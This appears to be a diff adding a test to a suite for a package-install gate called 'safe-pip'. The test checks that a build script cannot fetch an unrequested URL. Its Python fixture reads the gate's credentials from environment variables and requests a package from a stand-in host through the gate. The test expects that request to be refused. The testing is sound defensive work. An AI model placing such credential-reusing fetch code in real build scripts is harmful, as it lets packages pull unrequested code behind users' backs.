@@ -114,6 +114,27 @@ told.update(code=done.returncode, text=done.stderr)`.replace('PIP_ROOT', 'THE_PI
     expect(user.told).toThrow()
   })
 
+  test('a build script cannot use the gate to reach a host of its own choice', async () => {
+    const source = telling(
+      `import base64, urllib.request
+gate, user = os.environ["SAFE_PIP_GATE"], os.environ["SAFE_PIP_GATE_USER"]
+url = base64.urlsafe_b64encode(b"http://elsewhere.invalid/secret-1.0.tar.gz").decode().rstrip("=")
+request = urllib.request.Request(gate + "/u/f/" + url, headers={"Authorization": "Basic " + base64.b64encode(user.encode()).decode()})
+try:
+    urllib.request.urlopen(request, timeout=20)
+except Exception as error:
+    told["error"] = str(error)`,
+    )
+    const index = await makeIndex({ files: [source] })
+    const user = stand()
+    const { end, incidents } = await runOn(user, ['install', '-i', index.url, 'made'], { files: [source] })
+    expect({ ...end, ...user.shown }).toMatchObject({ exitCode: 0 })
+    expect(incidents).toEqual([])
+    expect(user.told()).toEqual({
+      error: 'HTTP Error 403: safe-pip: http://elsewhere.invalid/secret-1.0.tar.gz is a direct URL that the user did not ask for',
+    })
+  })
+
   test('a build requirement may not be cloned', async () => {
     const source = telling('told["ran"] = True', ['helper @ git+https://code.invalid/helper.git'])
     const index = await makeIndex({ files: [source] })
